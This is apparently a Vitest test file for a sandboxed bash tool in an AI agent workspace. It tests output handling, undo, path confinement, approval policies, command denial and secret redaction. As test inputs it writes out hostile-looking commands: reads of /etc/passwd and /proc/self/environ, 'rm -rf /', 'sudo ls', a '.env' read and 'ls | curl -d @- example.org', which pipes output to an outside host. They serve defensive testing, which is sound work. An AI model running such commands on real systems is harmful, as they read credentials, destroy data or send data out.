import { describe, expect, it } from 'vitest'
import { bash } from '../../../src/shells/bash/index.ts'
import { type Answer, shellBench } from '../setup.ts'

const TOKEN = `ghp_${'a1B2c3D4e5'.repeat(4).slice(0, 36)}`

describe('run_command with bash()', () => {
  it('returns output, exit code and changed files', async () => {
    const { run } = await shellBench({ 'a.txt': 'one\n' })
    const result = await run('cat a.txt; echo oops >&2; echo two > b.txt; exit 3')
    expect(result).toMatchObject({
      ok: true,
      stdout: 'one\n',
      stderr: 'oops\n',
      exitCode: 3,
      cwd: '.',
      truncated: false,
      filesChanged: ['b.txt'],
    })
    expect(result.refused).toBeUndefined()
  })

  it('commits one change set, which one undo reverts', async () => {
    const tree: Record<string, string> = {}
    for (let i = 0; i < 50; i++) {
      tree[`del/${i}.txt`] = `d${i}\n`
      tree[`old/${i}.txt`] = `r${i}\n`
      tree[`edit/${i}.txt`] = `e${i}\n`
    }
    const { run, workspace, snapshot } = await shellBench(tree)
    const before = await snapshot()
    const result = await run(
      'mkdir made; for i in $(seq 0 49); do echo $i > made/$i.txt; rm del/$i.txt; mv old/$i.txt old/n$i.txt; sed -i s/e/f/ edit/$i.txt; done',
    )
    expect(result).toMatchObject({ ok: true, exitCode: 0, stderr: '' })
    expect(result.filesChanged).toHaveLength(1 + 50 + 50 + 100 + 50)
    const outcomes = workspace.auditRecords().filter(({ phase }) => phase === 'outcome')
    expect(outcomes).toHaveLength(1)
    expect(outcomes[0]?.pathsWritten).toHaveLength(251)
    expect(await snapshot()).not.toEqual(before)
    expect(await workspace.undo(result.callId)).toMatchObject({ ok: true })
    expect(await snapshot()).toEqual(before)
  })

  it('moves and removes directories with their contents', async () => {
    const { run, snapshot } = await shellBench({ 'src/a/b.txt': 'b', 'src/c.txt': 'c', 'gone/x/y': 'y' })
    expect(await run('mv src lib && rm -r gone && ls lib')).toMatchObject({
      ok: true,
      exitCode: 0,
      stdout: 'a\nc.txt\n',
    })
    expect(Object.keys(await snapshot()).sort()).toEqual(['lib', 'lib/a', 'lib/a/b.txt', 'lib/c.txt'])
  })

  it('refuses a cwd that is not a directory', async () => {
    const { run } = await shellBench({ 'a.txt': '' })
    expect(await run('true', { cwd: 'nowhere' })).toMatchObject({ ok: false, code: 'NOT_FOUND' })
    expect(await run('true', { cwd: 'a.txt' })).toMatchObject({ ok: false, code: 'NOT_A_DIRECTORY' })
    expect(await run('true', { cwd: '../x' })).toMatchObject({ ok: false, code: 'PATH_REJECTED' })
  })

  it('finds nothing outside of the workspace and lists the attempt', async () => {
    const { run } = await shellBench({ 'a.txt': '' })
    const result = await run('cat /etc/passwd; cat ../../etc/passwd; cat /proc/self/environ; ls /')
    expect(result.stdout).toBe('dev\ntmp\nworkspace\n')
    expect(result.refused.map(({ path, code }: { path: string; code: string }) => [path, code])).toEqual([
      ['/etc/passwd', 'PATH_REJECTED'],
      ['/proc/self/environ', 'PATH_REJECTED'],
    ])
  })

  it('provides /dev/null, /dev/urandom and temporary files in /tmp', async () => {
    const { run } = await shellBench({})
    expect(await run('echo a > /dev/null; head -c 5 /dev/urandom | wc -c; cat /dev/null; ls /dev')).toMatchObject({
      stdout: '5\nfd\nnull\nurandom\n',
      filesChanged: [],
    })
    expect(await run('f=/tmp/x; echo b > $f; cat $f; cp $f y; cat <(echo c)')).toMatchObject({
      stdout: 'b\nc\n',
      filesChanged: ['y'],
    })
    expect(await run('ls /tmp')).toMatchObject({ stdout: '' })
  })

  it('fails the command of a redirection that cannot be opened and goes on, as bash does', async () => {
    const { run } = await shellBench({ 'a/b': '' })
    for (const [target, why] of [
      ['no/file', 'No such file or directory'],
      ['a/b/c', 'Not a directory'],
      ['.env', 'Permission denied'],
    ]) {
      expect(await run(`echo before; f=${target}; echo x > $f; echo $?; exit 3`)).toMatchObject({
        ok: true,
        stdout: 'before\n1\n',
        stderr: `bash: ${target}: ${why}\n`,
        exitCode: 3,
        filesChanged: [],
      })
    }
  })

  it('returns the end of long output and stores all of it as an artifact', async () => {
    const { run, workspace } = await shellBench({}, { limits: { commandOutputBytes: 2000 } })
    const result = await run('seq 1 5000; seq 1 5000 >&2; echo last >&2')
    expect(result.truncated).toBe(true)
    expect(result.stdout.length).toBeLessThan(2100)
    expect(result.stdout.endsWith('4999\n5000\n')).toBe(true)
    expect(result.stderr.endsWith('5000\nlast\n')).toBe(true)
    const whole = (await workspace.call('read_file', { path: result.outputUri, startLine: 1, maxLines: 3 })) as object
    expect(whole).toMatchObject({ ok: true, content: '1\n2\n3\n' })
  })

  it('counts a file as shown only if it printed it whole', async () => {
    const { run, workspace } = await shellBench({ 'a.txt': 'one\ntwo\n', 'b.txt': 'one\ntwo\nthree\n' })
    await run('cat a.txt; head -1 b.txt')
    const replace = (path: string) => workspace.call('write_file', { path, content: 'x', mode: 'REPLACE_EXISTING' })
    expect(await replace('a.txt')).toMatchObject({ ok: true })
    expect(await replace('b.txt')).toMatchObject({ ok: false, code: 'WRITE_CONFLICT' })
  })

  it('keeps no change after a timeout, a cancellation or an exceeded limit', async () => {
    const { run, snapshot, workspace } = await shellBench({ 'a.txt': 'a' })
    const before = await snapshot()
    expect(await run('echo b > a.txt; sleep 60', { timeoutMs: 100 })).toMatchObject({
      ok: false,
      code: 'COMMAND_TIMEOUT',
      value: 100,
    })
    const stop = new AbortController()
    setTimeout(() => stop.abort(), 50)
    expect(await run('echo b > a.txt; sleep 60', {}, { signal: stop.signal })).toMatchObject({ code: 'ABORTED' })
    expect(await run('echo b > a.txt; while :; do :; done')).toMatchObject({ code: 'LIMIT_EXCEEDED' })
    expect(await run('echo b > a.txt; f() { f; }; f')).toMatchObject({ ok: false, code: 'LIMIT_EXCEEDED' })
    expect(await snapshot()).toEqual(before)
    expect(workspace.auditRecords().map(({ code }) => code)).toEqual([
      'COMMAND_TIMEOUT',
      'ABORTED',
      'LIMIT_EXCEEDED',
      'LIMIT_EXCEEDED',
    ])
  })

  it('changes nothing after a concurrent change of the same file', async () => {
    const { run, workspace } = await shellBench({ 'a.txt': 'a\n' })
    const slow = run('sed -i s/a/b/ a.txt; echo n > n.txt; sleep 0.3')
    await new Promise((resolve) => setTimeout(resolve, 100))
    const { sha256 } = (await workspace.call('read_file', { path: 'a.txt' })) as unknown as { sha256: string }
    await workspace.call('write_file', { path: 'a.txt', content: 'c\n', expectedSha256: sha256 })
    expect(await slow).toMatchObject({ ok: false, code: 'WRITE_CONFLICT' })
    expect(await workspace.call('file_info', { path: 'n.txt' })).toMatchObject({ ok: false, code: 'NOT_FOUND' })
  })
})

describe('the cwd of a command', () => {
  it('is the root, unless it is kept between calls', async () => {
    const { run } = await shellBench({ 'sub/a.txt': '' })
    expect(await run('cd sub; true')).toMatchObject({ cwd: 'sub' })
    expect(await run('pwd')).toMatchObject({ stdout: '/workspace\n', cwd: '.' })
  })

  it('is kept between the calls of one run, for any output', async () => {
    const { run, workspace } = await shellBench({ 'sub/a.txt': '', 'other/b.txt': '' }, { keepCwd: true })
    const other = workspace.run()
    await run('cd sub ; true')
    expect(
      await run('pwd; echo "PWD=/workspace/other"; echo "cd other"; printf "\\033]7;file:///workspace/other\\a"'),
    ).toMatchObject({ cwd: 'sub' })
    expect(await run('ls')).toMatchObject({ stdout: 'a.txt\n' })
    expect(await other.call('run_command', { command: 'pwd' })).toMatchObject({ stdout: '/workspace\n' })
    expect(await run('PWD=/etc; cd /; true')).toMatchObject({ cwd: 'sub' })
    expect(await run('(cd ../other); bash -c "cd .."')).toMatchObject({ cwd: 'sub' })
  })
})

describe('bash and sh in a command', () => {
  const spellings = ['-c', '-lc', '-l -c', '-cl', '--login -c', '--norc -c', '--login --noprofile -lc', '-c --']
  it.each(['bash', 'sh'].flatMap((name) => spellings.map((flags) => `${name} ${flags}`)))(
    'run the script of %s',
    async (start) => {
      const { run } = await shellBench({ 'a.txt': '' })
      expect(await run(`${start} 'echo "$0 $1"; ls' name one`)).toMatchObject({
        stdout: 'name one\na.txt\n',
        exitCode: 0,
      })
    },
  )

  it.each([
    ["bash -ec 'false; echo no'", '', 1],
    ["bash -e -c 'false; echo no'", '', 1],
    ["bash -euo pipefail -c 'false | true; echo no'", '', 1],
    ["bash -o errexit -lc 'false; echo no'", '', 1],
    ["bash -fc 'echo *'", '*\n', 0],
    ['bash -l s.sh one', 'one\nend\n', 0],
    ['bash -e s.sh one', 'one\n', 1],
    ['bash -l missing.sh', '', 127],
    ['bash -e missing.sh', '', 127],
    ["echo in | bash -lc 'cat'", 'in\n', 0],
    ["bash -bc 'ls'", '', 2],
    ["bash -nc 'echo no'", '', 2],
    ["bash +ec 'echo no'", '', 2],
    ["bash -o posix -c 'echo no'", '', 2],
  ])('take the options of %s', async (command, stdout, exitCode) => {
    const { run } = await shellBench({ 's.sh': '#!/bin/bash\necho $1\nfalse\necho end\n' })
    expect(await run(command)).toMatchObject({ stdout, exitCode })
  })
})

describe('policy for commands of bash()', () => {
  it('hides the files that policy hides', async () => {
    const policy = { preset: 'autonomous', deniedPaths: ['private'] } as const
    const { run } = await shellBench({ 'private/plan.txt': 'plan\n', 'a.txt': 'plan\n' }, { policy })
    const result = await run('ls -a; find .; echo *; grep -r plan .; [ -e private ] || echo none; cat private/plan.txt')
    expect(result.stdout).not.toContain('private')
    expect(result.stdout).toContain('none')
    expect(result.refused).toMatchObject([{ path: 'private/plan.txt', code: 'POLICY_DENIED' }])
  })

  it('asks once for all writes of a command and shows them', async () => {
    const requests: Record<string, unknown>[] = []
    const rules = [{ name: 'docs', action: 'ask', permissions: ['file:write:*'], paths: ['docs/**'] }] as const
    const { run, snapshot } = await shellBench(
      { 'docs/a.md': 'a\n' },
      {
        policy: { preset: 'autonomous', rules },
        approve: async (request) => {
          requests.push({ ...request })
          return requests.length === 1 ? { deny: 'not now' } : 'allow'
        },
      },
    )
    const before = await snapshot()
    const line = 'echo b > docs/a.md; echo c > docs/c.md; echo d > d.md'
    expect(await run(line)).toMatchObject({ ok: false, code: 'APPROVAL_DENIED' })
    expect(await snapshot()).toEqual(before)
    expect(await run(line)).toMatchObject({ ok: true, filesChanged: ['d.md', 'docs/a.md', 'docs/c.md'] })
    expect(requests).toHaveLength(2)
    expect(requests[0]?.diff).toContain('+b')
    expect(requests[0]?.diff).toContain('docs/c.md')
  })

  it('stops the clock of the command while a read waits for approval', async () => {
    const rules = [{ name: 'plans', action: 'ask', permissions: ['file:read'], paths: ['plans/**'] }] as const
    const policy = { preset: 'autonomous', rules } as const
    const tree = { 'plans/a.md': 'alpha\n', 'plans/b.md': 'beta\n', 'c.md': 'c\n' }
    const questions: string[] = []
    const { run } = await shellBench(tree, {
      policy,
      approve: async ({ accesses }) => {
        questions.push(accesses[0]?.path as string)
        await new Promise((resolve) => setTimeout(resolve, 1100))
        return 'allow' as const
      },
    })
    // Loads the parts that are loaded on first use.
    await run('cat c.md; echo c > c.txt')
    const result = await run('cat plans/a.md plans/b.md; echo x >> log.txt', { timeoutMs: 1000 })
    expect(result).toMatchObject({ ok: true, stdout: 'alpha\nbeta\n', filesChanged: ['log.txt'] })
    expect(questions).toEqual(['plans/a.md', 'plans/b.md'])
    const { run: alone, snapshot } = await shellBench(tree, { policy })
    const before = await snapshot()
    expect(await alone('echo x > x.txt; cat plans/a.md')).toMatchObject({ ok: false, code: 'APPROVAL_REQUIRED' })
    expect(await snapshot()).toEqual(before)
  })

  it('asks before it runs a command that needs approval', async () => {
    const questions: string[] = []
    const { run } = await shellBench(
      { 'a.txt': 'a\n' },
      {
        policy: 'supervised',
        approve: async ({ accesses, diff }) => {
          questions.push(`${accesses[0]?.permission} ${diff === undefined ? '' : 'diff'}`)
          return questions.length === 1 ? { deny: 'no' } : 'allow'
        },
      },
    )
    expect(await run('cat a.txt')).toMatchObject({ ok: false, code: 'APPROVAL_DENIED' })
    expect(await run('cat a.txt')).toMatchObject({ ok: true, stdout: 'a\n' })
    expect(await run('echo b > a.txt')).toMatchObject({ ok: true })
    expect(questions.map((one) => one.trim())).toEqual([
      'command:run',
      'command:run',
      'command:run',
      expect.stringContaining('diff'),
    ])
  })

  it('runs a pending command after one answer', async () => {
    const rules = [
      { name: 'plans', action: 'ask', permissions: ['file:read'], paths: ['plans/**'] },
      { name: 'docs', action: 'ask', permissions: ['file:write:*'], paths: ['docs/**'] },
      { name: 'commands', action: 'ask', permissions: ['command:run'] },
    ] as const
    const tree = { 'plans/a.md': 'alpha\n', 'docs/a.md': '' }
    const { run, workspace } = await shellBench(tree, { policy: { preset: 'autonomous', rules } })
    let result: Answer = await run('cat plans/a.md | tee docs/a.md')
    let answers = 0
    for (; result.code === 'APPROVAL_REQUIRED' && answers < 10; answers++) {
      result = (await workspace.resume(result.approvalId as string, 'allow')) as Answer
    }
    expect(answers).toBe(3)
    expect(result).toMatchObject({ ok: true, stdout: 'alpha\n', filesChanged: ['docs/a.md'] })
  })

  it('lets commands read if nothing may be written', async () => {
    const { run, snapshot } = await shellBench({ 'a.txt': 'a\n' }, { readOnly: true })
    const before = await snapshot()
    const result = await run('cat a.txt; f=b.txt; echo b > $f')
    expect(result).toMatchObject({
      ok: true,
      stdout: 'a\n',
      exitCode: 1,
      refused: [{ code: 'READ_ONLY', path: 'b.txt' }],
    })
    for (const line of [
      'rm a.txt',
      'mv a.txt b',
      'touch c',
      'mkdir d',
      'cp a.txt e',
      'ln -s a.txt l',
      'tee f < a.txt',
    ]) {
      expect((await run(line)).refused, line).toMatchObject([{ code: 'READ_ONLY' }])
    }
    expect(await snapshot()).toEqual(before)
  })

  it('refuses generated files and asks for lockfiles', async () => {
    const tree = { 'dist/a.js': 'a', 'src/g.ts': '// @generated\nx\n', 'package-lock.json': '{}\n' }
    const { run, snapshot } = await shellBench(tree)
    const before = await snapshot()
    expect((await run('rm -rf dist')).refused).toMatchObject([{ path: 'dist/a.js', code: 'POLICY_DENIED' }])
    expect((await run('mv dist out')).refused[0]).toMatchObject({ code: 'POLICY_DENIED' })
    expect(await run('sed -i s/x/y/ src/g.ts')).toMatchObject({ ok: false, code: 'POLICY_DENIED', path: 'src/g.ts' })
    expect(await run('sed -i s/x/y/ package-lock.json; echo "{ }" | tee package-lock.json')).toMatchObject({
      code: 'APPROVAL_REQUIRED',
    })
    expect(await snapshot()).toEqual(before)
  })

  it('offers no run_command without a shell', async () => {
    const { workspace } = await shellBench({}, { shell: undefined as never })
    expect(workspace.tools.map(({ name }) => name)).not.toContain('run_command')
    expect(await workspace.call('run_command', { command: 'ls' })).toMatchObject({ code: 'SHELL_UNAVAILABLE' })
  })

  it('refuses commands in plan mode before the plan is approved', async () => {
    const { run, workspace } = await shellBench({}, { mode: 'plan' })
    expect(await run('ls')).toMatchObject({ ok: false, code: 'PLAN_MODE' })
    workspace.approvePlan()
    expect(await run('ls')).toMatchObject({ ok: true })
  })
})

describe('a secret in a file of a command', () => {
  it('shows as a mark and stays in the files that commands edit, copy or move', async () => {
    const { run, backend } = await shellBench({ 'conf.ts': `const token = '${TOKEN}'\nconst x = 1\n` })
    const result = await run(
      'cat conf.ts; base64 conf.ts; sed -i s/x/y/ conf.ts; cp conf.ts copy.ts; cat copy.ts | rev',
    )
    expect(result).toMatchObject({ ok: true, exitCode: 0 })
    expect(result.stdout).toContain('[REDACTED:github-token:1]')
    expect(result.stdout).not.toContain(TOKEN)
    expect(result.stdout).not.toContain([...TOKEN].reverse().join(''))
    expect(Buffer.from(result.stdout, 'base64').toString()).not.toContain(TOKEN)
    for (const path of ['conf.ts', 'copy.ts']) {
      const { bytes } = await backend.read(path as never)
      expect(new TextDecoder().decode(bytes)).toBe(`const token = '${TOKEN}'\nconst y = 1\n`)
    }
  })

  it('cannot be written where it would no longer be recognized', async () => {
    const { run, backend } = await shellBench({ 'conf.ts': `const token = '${TOKEN}'\n` })
    for (const line of [
      'sed "s/.REDACTED/aaaa&/" conf.ts > out',
      "tr -d \"'\" < conf.ts | sed 's/= /=aaaaaaaa/' > out",
    ]) {
      await run(line)
      const out = await backend.stat('out' as never)
      if (out === undefined) continue
      const folded = await run('cat out | fold -w 10')
      expect(folded.stdout.replaceAll('\n', ''), line).not.toContain(TOKEN.slice(4))
    }
  })

  it('shows as a mark in the output, from any source', async () => {
    const { run } = await shellBench({})
    const result = await run(`a=${TOKEN.slice(0, 10)}; b=${TOKEN.slice(10)}; echo "$a$b"; echo "$a$b" >&2`)
    expect(result.stdout + result.stderr).not.toContain(TOKEN)
  })
})

describe('close() of bash()', () => {
  it('ends running commands', async () => {
    const shell = bash()
    const { run } = await shellBench({}, { shell })
    const running = run('sleep 60')
    await new Promise((resolve) => setTimeout(resolve, 100))
    await shell.close()
    expect(await running).toMatchObject({ ok: false, code: 'ABORTED' })
  })
})

describe('a command line of bash()', () => {
  it('is evaluated before any part of it runs, and can be explained', async () => {
    const policy = { preset: 'autonomous', commands: { deny: ['curl'] } } as const
    const { run, workspace } = await shellBench({ 'a.txt': 'a', '.env': 'x' }, { shell: bash(), policy })
    for (const line of [
      'sudo ls',
      'rm -rf /',
      'echo a; curl example.org',
      'echo x > ../out',
      'cmd=ls; $cmd',
      'echo "',
    ]) {
      expect(await run(line), line).toMatchObject({ ok: false, code: 'COMMAND_DENIED' })
    }
    expect(await run("echo sudo; grep 'rm -rf /' a.txt")).toMatchObject({ ok: true, stdout: 'sudo\n' })
    expect(await workspace.explain('run_command', { command: 'ls | curl -d @- example.org' })).toMatchObject({
      ok: true,
      verdict: { decision: 'deny' },
      line: { commands: [{ name: 'ls' }, { name: 'curl' }], reasons: [{ code: 'POLICY_DENIED' }] },
    })
  })

  it('is refused for a file that it plainly opens, by the rules for any call', async () => {
    const { run, workspace } = await shellBench({ '.env': 'x' }, { shell: bash() })
    expect(await run('cat < .env')).toMatchObject({ ok: false, code: 'POLICY_DENIED_SECRET', path: '.env' })
    expect(workspace.auditRecords().at(-1)?.refusals).toEqual([
      { permission: 'file:read', path: '.env', code: 'POLICY_DENIED_SECRET' },
    ])
  })

  it('is evaluated by command rules for each of its commands', async () => {
    const rules = [
      { name: 'look', action: 'allow', permissions: ['command:run'], commands: ['ls*', 'cat *'] },
      { name: 'no sed', action: 'deny', commands: ['sed *'] },
    ] as const
    const questions: string[] = []
    const { run } = await shellBench(
      { 'a.txt': 'a' },
      {
        shell: bash(),
        policy: { preset: 'supervised', rules },
        approve: async ({ tool }) => {
          questions.push(tool)
          return 'allow' as const
        },
      },
    )
    expect(await run('ls && cat a.txt')).toMatchObject({ ok: true })
    expect(questions).toEqual([])
    expect(await run('ls && wc a.txt')).toMatchObject({ ok: true })
    expect(questions).toEqual(['run_command'])
    expect(await run('ls; true | sed p a.txt')).toMatchObject({ ok: false, code: 'COMMAND_DENIED' })
  })
})

describe('the files of a command line', () => {
  const tree = { 'a.txt': 'a\n', 'd/b.txt': 'b\n', 'd/e/c.txt': 'c\n', 'f/g.txt': 'g\n' }
  it.each<readonly [line: string, expected: object]>([
    ['rm missing', { exitCode: 1, stderr: expect.stringContaining('No such file') }],
    ['rm -f missing; rm d; ls d', { stdout: 'b.txt\ne\n', stderr: expect.stringContaining('s a directory') }],
    ['rmdir d; ls d', { stdout: 'b.txt\ne\n', stderr: expect.stringContaining('not empty') }],
    ['cp d x; ls', { stdout: 'a.txt\nd\nf\n', stderr: expect.stringContaining('directory') }],
    ['cp -r d x && find x | sort', { stdout: 'x\nx/b.txt\nx/e\nx/e/c.txt\n' }],
    ['cp -r d d/e', { exitCode: 1 }],
    ['ln -s b.txt d/l && cp -r d x && readlink x/l', { stdout: 'b.txt\n' }],
    ['ln -s /workspace/f/g.txt d/e/l && readlink d/e/l && cat d/e/l', { stdout: '../../f/g.txt\ng\n' }],
    ['ln a.txt b.txt && cat b.txt; ln a.txt d/b.txt; ln d x', { exitCode: 1, stdout: 'a\n' }],
    ['mkdir -p d/e /workspace / && mkdir -p x/y/z && ls x/y', { stdout: 'z\n' }],
    ['mkdir /', { exitCode: 1, stderr: expect.stringMatching(/exists/) }],
    ['mkdir /nowhere', { exitCode: 1, stderr: expect.stringMatching(/denied/i) }],
    ['mkdir -p /dev/x', { exitCode: 1 }],
    ['mv a.txt /tmp/x && cat /tmp/x && ls && mv /tmp/x back && cat back', { stdout: 'a\nd\nf\na\n' }],
    ['mv d /tmp && find /tmp | sort', { stdout: '/tmp\n/tmp/d\n/tmp/d/b.txt\n/tmp/d/e\n/tmp/d/e/c.txt\n' }],
    ['ls /; ls /dev', { stdout: 'dev\ntmp\nworkspace\nfd\nnull\nurandom\n' }],
    ['cat /dev', { exitCode: 1, stderr: expect.stringMatching(/directory/i) }],
    ['cat < /', { exitCode: 1 }],
    [
      'echo x > /dev/null; touch /dev/null; cat /dev/null; head -c 4 /dev/urandom | wc -c',
      { stdout: expect.stringMatching(/^ *4\n$/) },
    ],
    [
      'echo a; echo x > /dev/urandom || exit 3',
      { exitCode: 3, stdout: 'a\n', stderr: 'bash: /dev/urandom: Permission denied\n' },
    ],
    [
      'readlink -f /tmp; readlink -f /dev/null; readlink -f d/../a.txt',
      { stdout: '/tmp\n/dev/null\n/workspace/a.txt\n' },
    ],
    ['cd /dev && pwd; ls /etc', { stdout: '/dev\n', exitCode: 2 }],
    ['readlink a.txt; readlink missing', { exitCode: 1, stdout: '' }],
    ['touch d missing/x; touch fresh && ls fresh', { stdout: 'fresh\n', stderr: expect.stringContaining('missing/x') }],
    ['printf x >> fresh; printf y >> fresh; printf z > fresh2; cat fresh fresh2', { stdout: 'xyz' }],
    ['rm -r /workspace', { exitCode: 1 }],
    ['chmod 600 missing', { exitCode: 1 }],
    ['unset PWD; cd d; unset PWD', { cwd: '.' }],
    ['mkdir gone; cd gone; rmdir ../gone', { cwd: '.' }],
    [
      'cd d && patch -d /tmp < /dev/null',
      { exitCode: 1, stderr: 'patch: **** it works in the workspace only\n', cwd: 'd' },
    ],
    ['patch -i /nowhere/x', { exitCode: 1, stderr: 'patch: **** Cannot open the patch "/nowhere/x"\n' }],
    ['echo x > /tmp/x; grep -rh x /tmp', { stdout: 'x\n' }],
    ['grep -r; rg', { exitCode: 2 }],
    ['rg --bogus; rg -a a a.txt; rg -t nothing a; rg -e a -e b a.txt', {}],
  ])('%s', async (line, expected) => {
    const { run } = await shellBench(tree)
    expect(await run(line)).toMatchObject({ ok: true, ...expected })
  })

  it('have limits for size and number', async () => {
    const limits = { commandFileBytes: 50, treeEntries: 3 }
    const { run, snapshot } = await shellBench({ ...tree, big: 'x'.repeat(100) }, { limits })
    const before = await snapshot()
    expect(await run('cat big')).toMatchObject({ exitCode: 1, stdout: '' })
    expect(await run('printf "%060d" 1 > y')).toMatchObject({ ok: false, code: 'LIMIT_EXCEEDED' })
    expect(await snapshot()).toEqual(before)
    expect((await run('mkdir -p h/1 h/2 h/3 h/4 && rm -r h; ls h')).stdout).toBe('1\n2\n3\n4\n')
  })
})
